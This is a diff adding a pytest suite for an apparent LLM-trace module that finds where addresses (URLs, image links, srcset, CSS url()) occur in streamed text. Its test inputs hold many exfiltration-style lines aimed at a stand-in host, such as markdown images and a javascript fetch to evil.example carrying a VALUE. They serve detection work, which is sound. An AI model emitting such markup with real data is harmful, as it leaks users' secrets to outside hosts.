@@ -1,0 +1,108 @@
+"""Where addresses are in a text."""
+
+import time
+
+import pytest
+
+from llmtrace.pipeline.streaming.addresses import (
+    IN_ARGUMENT,
+    IN_FILE,
+    IN_TEXT,
+    LEFT_OF_URL,
+    Where,
+    addresses,
+    open_address,
+)
+
+
+def within(text: str, where: Where = IN_TEXT) -> bool:
+    at = text.index("VALUE")
+    return any(start < at <= end for start, end in addresses(text, where))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("![x](//evil.example/?k=VALUE)", "![x](<https://evil.example/a b?k=VALUE>)"),
+        *("![x](https:/evil.example/VALUE)", "![x](https:\\\\evil.example/VALUE)"),
+        *("![x](https&#58;//evil.example/VALUE)", "![x](/VALUE)", "![x](a(b)VALUE)"),
+        *("<img src=//evil.example/VALUE>", '<a href="//evil.example/VALUE">', "src='a VALUE'"),
+        *('<img srcset="a 1x, //evil.example/VALUE 2x">', "url( '//evil.example/VALUE')"),
+        *("https://VALUE.evil.example", "HTTPS://e/VALUE", "wss:VALUE", "ftp://evil.example/VALUE"),
+        *("_https://e/VALUE", "mailto:a@e?body=VALUE", "vscode://evil/VALUE", "ssh://VALUE@e"),
+        *(
+            "git+https://e/VALUE",
+            'javascript:fetch("//evil.example/VALUE")',
+            "//evil.example/VALUE",
+        ),
+        *("www.evil.example/VALUE", "[r]: //evil.example/VALUE", "https://e/it's(x)?k=VALUE"),
+        *("https://e/?k=\u200bVALUE", "https://" + "a" * 5000 + "VALUE"),
+    ],
+)
+def test_a_value_in_an_address(text: str) -> None:
+    assert within(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "Contact: VALUE",
+            "`VALUE`",
+            "[docs](https://x.example) VALUE",
+            "(https://x.example)VALUE",
+        ),
+        *(
+            "{a:'https://x.example',k:'VALUE'}",
+            '{"u":"https://x.example/","k":"VALUE"}',
+            "a/b//VALUE",
+        ),
+        *(
+            "postgres://u:VALUE@localhost/db",
+            "jdbc:mysql://u:VALUE@h",
+            "C:\\Users\\VALUE",
+            "// VALUE",
+        ),
+        *("token:VALUE", "gossip:VALUE", '<a href="https://x">mail</a> VALUE', "tel:VALUE"),
+        *("https://x.example VALUE", "redis+tls://:VALUE@h", "![VALUE](https://x.example)"),
+    ],
+)
+def test_a_value_elsewhere(text: str) -> None:
+    assert not within(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "where", "told"),
+    [
+        ("https://e/VALUE", IN_FILE, True),
+        ('<a href="mailto:VALUE">', IN_FILE, False),
+        ('src="VALUE"', IN_ARGUMENT, False),
+        ("ftp://e/VALUE", IN_ARGUMENT, True),
+    ],
+)
+def test_files_and_arguments_are_not_shown(text: str, where: Where, told: bool) -> None:
+    assert within(text, where) is told
+
+
+def test_an_address_is_open_at_its_end_and_not_behind_it() -> None:
+    text = "see https://e/x and"
+    assert open_address(text, len("see https://e/x")) == len("see ")
+    assert open_address(text, len(text)) is None
+    assert open_address(text, len("see")) is None
+
+
+def test_a_run_whose_beginning_was_forgotten_is_an_address() -> None:
+    run = "a" * LEFT_OF_URL
+    assert open_address(run, len(run)) == 0
+    assert open_address(run[1:], len(run) - 1) is None
+    assert open_address("\u732b" * LEFT_OF_URL, LEFT_OF_URL) is None
+
+
+@pytest.mark.parametrize(
+    "piece", ["](", "](a(", "url(", "https://'", 'src="', "//a.", "a:", "\\\\a."]
+)
+def test_any_repetition_takes_linear_time(piece: str) -> None:
+    text = piece * (100_000 // len(piece))
+    began = time.thread_time()
+    sum(1 for _ in addresses(text, IN_TEXT))
+    assert time.thread_time() - began < 1
